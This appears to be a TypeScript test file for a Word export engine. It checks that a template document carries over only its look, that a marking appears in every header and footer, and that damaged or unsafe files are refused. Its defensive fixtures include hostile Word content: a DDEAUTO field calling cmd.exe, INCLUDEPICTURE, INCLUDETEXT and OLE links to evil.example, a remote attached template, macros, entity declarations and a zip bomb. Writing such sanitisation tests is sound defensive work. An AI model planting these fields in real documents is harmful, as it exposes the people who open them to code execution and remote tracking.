// Proves that a house document brings nothing with it but its looks, that a marking is never lost to it, and that what
// cannot serve as one is refused in words.
import { readFile } from "node:fs/promises";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { checkHouseDocument } from "../../src/engine/writers/docx/house-document.ts";
import { makeHouseSample } from "../../src/engine/writers/docx/house-sample.ts";
import { writeDocx } from "../../src/engine/writers/docx/write-docx.ts";
import { AttacheError } from "../../src/ipc/errors.ts";
import { docxInput } from "../support/docx-input.ts";
import {
  type EdgeName,
  field,
  houseParts,
  line,
  type MadeHouse,
  makeHouse,
  ONE_DOT_PNG,
  picture,
  style,
} from "../support/made-house.ts";
import { MARKED_BRIEF, SHOWN_MARKING } from "../support/marked-brief.ts";
import { readPackage } from "../support/read-package.ts";
import { refusalOf } from "../support/test-engine.ts";
import { makeZip } from "../support/zip-making.ts";

const STYLES = style("Normal", "Normal", { isDefault: true }) + style("Marking", "Marking");

const exportWith = (houseDocument: Uint8Array) => writeDocx(docxInput({ ...MARKED_BRIEF, houseDocument }));

/** All parts of the export in one text. */
async function allOf(house: MadeHouse): Promise<string> {
  const parts = await readPackage(await exportWith(makeHouse(house)));
  return (await Promise.all(parts.names.map(async (name) => `${name}\n${await parts.text(name)}`))).join("\n");
}

describe("a marking", () => {
  const kinds = ["default", "first", "even"] as const;
  const edgeNames = kinds.flatMap((kind): EdgeName[] => [`header/${kind}`, `footer/${kind}`]);
  const content = fc.constantFrom(
    line("House words"),
    `<w:p>${field(" PAGE ", "1")}</w:p>`,
    `${line("EXAMPLE", "Marking")}${line("House words")}`,
    `<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:tcPr/>${line("EXAMPLE", "Marking")}</w:tc></w:tr></w:tbl><w:p/>`,
    `<w:sdt><w:sdtContent>${line("EXAMPLE", "Marking")}</w:sdtContent></w:sdt>`,
    `<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`,
    "",
  );
  const edges = fc
    .array(fc.tuple(fc.constantFrom(...edgeNames), content))
    .map((entries): Partial<Record<EdgeName, string>> => Object.fromEntries(entries));

  test("stands once in every header and footer of the result, and a page number on every kind of page", async () => {
    await fc.assert(
      fc.asyncProperty(edges, fc.boolean(), fc.boolean(), async (made, hasFirst, hasEven) => {
        const house = makeHouse({
          styles: STYLES,
          edges: made,
          ...(hasFirst && { page: "<w:titlePg/>" }),
          ...(hasEven && { settings: "<w:evenAndOddHeaders/>" }),
        });
        const { sections } = await readPackage(await exportWith(house));
        const shown = ["default", ...(hasFirst ? ["first"] : []), ...(hasEven ? ["even"] : [])];
        for (const section of sections) {
          for (const kind of shown) {
            expect([...section.edges.keys()]).toEqual(expect.arrayContaining([`header/${kind}`, `footer/${kind}`]));
          }
          for (const [name, edge] of section.edges) {
            expect(edge.text.split(SHOWN_MARKING).length - 1, `markings in ${name}`).toBe(1);
            expect(edge.text).not.toContain("EXAMPLE");
          }
          for (const kind of shown) {
            const made = [section.edges.get(`header/${kind}`), section.edges.get(`footer/${kind}`)];
            const numbers = made.map((edge) => JSON.stringify(edge)).join("");
            expect(numbers, `page number on ${kind} pages`).toMatch(/PAGE| PA/u);
          }
        }
      }),
      { numRuns: 60 },
    );
  });

  test("stands on its own where the house's example is in a text box, which could cover it", async () => {
    const box = `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="position:absolute;z-index:7"><v:textbox><w:txbxContent>${line("EXAMPLE", "Marking")}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>`;
    const house = makeHouse({ styles: STYLES, edges: { "header/default": box } });
    const parts = await readPackage(await exportWith(house));
    const header = parts.sections[0]?.edges.get("header/default");
    expect(header?.children[0]?.text).toBe(SHOWN_MARKING);
    expect(header?.text).toBe(SHOWN_MARKING);
    expect(await parts.text("word/header1.xml")).toContain("z-index:-7");
  });
});

describe("nothing comes with a house document", () => {
  test("of templates, protection, macros, mail merge, scripts and its own words", async () => {
    const all = await allOf({
      styles: STYLES,
      body: line("Secret of the house"),
      settings:
        '<w:attachedTemplate r:id="t"/><w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge><w:docVars><w:docVar w:name="a" w:val="b"/></w:docVars>',
      settingsRelationships: [
        { id: "t", type: "attachedTemplate", target: "https://evil.example/t.dotm", isExternal: true },
      ],
      documentRelationships: [
        { id: "m", type: "vbaProject", target: "vbaProject.bin" },
        { id: "g", type: "glossaryDocument", target: "glossary/document.xml" },
      ],
      others: [
        { name: "word/vbaProject.bin", content: "macros" },
        { name: "word/glossary/document.xml", content: "<a/>" },
        { name: "docProps/core.xml", content: "<a>Author of the house</a>" },
        { name: "customXml/item1.xml", content: "<a>Records</a>" },
      ],
    });
    const carried = all.match(
      /evil\.example|attachedTemplate|documentProtection|mailMerge|docVar|vbaProject|macros|glossary|of the house|Records/gu,
    );
    expect(carried).toBeNull();
  });

  test("that its headers refer to outside: pictures, links, fields, objects", async () => {
    const all = await allOf({
      styles: STYLES,
      edges: {
        "header/default": [
          picture('r:link="ext"'),
          picture('r:embed="ext"'),
          `<w:p><w:hyperlink r:id="link"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>`,
          `<w:p>${field(' INCLUDEPICTURE "https://evil.example/f.png" ', "shown last")}</w:p>`,
          `<w:p>${field(" DDEAUTO c:\\\\windows\\\\cmd.exe ", "dde")}</w:p>`,
          `<w:p>${field(` IF 1 = 1 ${" "}`, "kept")}</w:p>`,
          `<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example/x&quot; "><w:r><w:t>text</w:t></w:r></w:fldSimple></w:p>`,
          `<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:href="ext" src="https://evil.example/i.png"/></v:shape><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="ext"/></w:object></w:r></w:p>`,
          `<w:altChunk r:id="ext"/>`,
          `<w:p><w:ins w:id="1" w:author="Anon"><w:r><w:t>added</w:t></w:r></w:ins><w:del w:id="2" w:author="Anon"><w:r><w:delText>gone</w:delText></w:r></w:del></w:p>`,
        ].join(""),
      },
      edgeRelationships: [
        { id: "ext", type: "image", target: "https://evil.example/p.png", isExternal: true },
        { id: "link", type: "hyperlink", target: "https://evil.example", isExternal: true },
      ],
    });
    const carried = all.match(/evil\.example|INCLUDE|DDEAUTO|OLEObject|altChunk|hyperlink r:id="link"|Anon|gone/gu);
    expect(carried).toBeNull();
    for (const words of ["our site", "shown last", "dde", "text", "added"])
      expect(all.includes(words), words).toBe(true);
  });

  test("but the pictures of its headers, under names of their own", async () => {
    const { names, sections } = await readPackage(
      await exportWith(
        makeHouse({
          styles: STYLES,
          edges: { "header/default": picture('r:embed="a"'), "header/first": picture('r:embed="a"') },
          edgeRelationships: [{ id: "a", type: "image", target: "../word/media/../media/x.png" }],
          others: [{ name: "word/media/x.png", content: ONE_DOT_PNG }],
        }),
      ),
    );
    expect(names.filter((name) => /^word\/media\/./u.test(name))).toEqual([
      "word/media/house-image1.png",
      "word/media/house-image2.png",
    ]);
    expect(sections).not.toEqual([]);
  });
});

describe("refused as a house document", () => {
  const check = (bytes: Uint8Array, name = "Look of the house.docx") => refusalOf(checkHouseDocument(bytes, name));
  const encode = (text: string) => new TextEncoder().encode(text);
  test.each<[string, () => Uint8Array, RegExp]>([
    ["a PDF", () => encode("%PDF-1.7\n%%EOF"), /no Word document.*\.docx/u],
    ["a text", () => encode("Dear all"), /no Word document/u],
    ["an archive that was renamed", () => makeZip([{ name: "a.txt", content: "a" }]), /a ZIP archive.*Word/u],
    ["a workbook", () => makeZip([{ name: "xl/workbook.xml", content: "<a/>" }]), /an Excel workbook.*Word/u],
    ["nothing at all", () => new Uint8Array(), /is empty/u],
    ["more than 20 MB", () => new Uint8Array(20 * 1024 * 1024 + 1), /21 MB.*20 MB/u],
    ["half of one", () => makeHouse({ styles: STYLES }).slice(0, 900), /no Word document|damaged/u],
    ["one whose styles break off", () => spoilt("word/styles.xml", "<w:styles><w:style>"), /damaged.*Open it in Word/u],
    ["one whose styles use an unknown prefix", () => spoilt("word/styles.xml", "<x:styles/>"), /damaged/u],
    [
      "one that declares entities",
      () => spoilt("word/styles.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a/>'),
      /read safely/u,
    ],
    [
      "one that nests without end",
      () => spoilt("word/styles.xml", `${"<a>".repeat(600)}${"</a>".repeat(600)}`),
      /read safely/u,
    ],
    ["a zip bomb", () => spoilt("word/styles.xml", new Uint8Array(100 * 1024 * 1024)), /read safely/u],
  ])("%s", async (_, make, words) => {
    const { message } = await check(make());
    expect(message).toMatch(words);
    expect(message).toMatch(/^Look of the house\.docx /u);
  });

  test("one in the strict form, saying how to save it", async () => {
    const strict = await readFile(new URL("../fixtures/docx/mammoth-strict-format.docx", import.meta.url));
    expect((await check(strict)).message).toMatch(/Strict Open XML.*Word Document/u);
  });

  test.each([
    ["unsupported/old-document.doc", /an old Word document \(\.doc\).*save it as a Word document/u],
    ["unsupported/protected.docx", /protected by a password.*take the password away/u],
    ["unsupported/workbook.xlsx", /an Excel workbook/u],
    ["mail/outlook.msg", /no Word document/u],
  ])("%s of the fixtures", async (name, words) => {
    const bytes = await readFile(new URL(`../fixtures/${name}`, import.meta.url));
    expect((await check(bytes)).message).toMatch(words);
  });

  test("damage at random is refused or does no harm", async () => {
    const sample = await makeHouseSample();
    const at = fc.array(fc.tuple(fc.nat(sample.length - 1), fc.nat(255)), { minLength: 1, maxLength: 8 });
    await fc.assert(
      fc.asyncProperty(at, async (changes) => {
        const broken = sample.slice();
        for (const [place, byte] of changes) broken[place] = byte;
        try {
          await checkHouseDocument(broken, "house.docx");
          const { sections } = await readPackage(await exportWith(broken));
          expect(sections[0]?.edges.get("header/default")?.text).toContain(SHOWN_MARKING);
        } catch (error) {
          expect(error).toBeInstanceOf(AttacheError);
        }
      }),
      { numRuns: 60 },
    );
  });
});

function spoilt(name: string, content: string | Uint8Array): Uint8Array {
  return makeZip(houseParts({ styles: STYLES }).map((part) => (part.name === name ? { name, content } : part)));
}
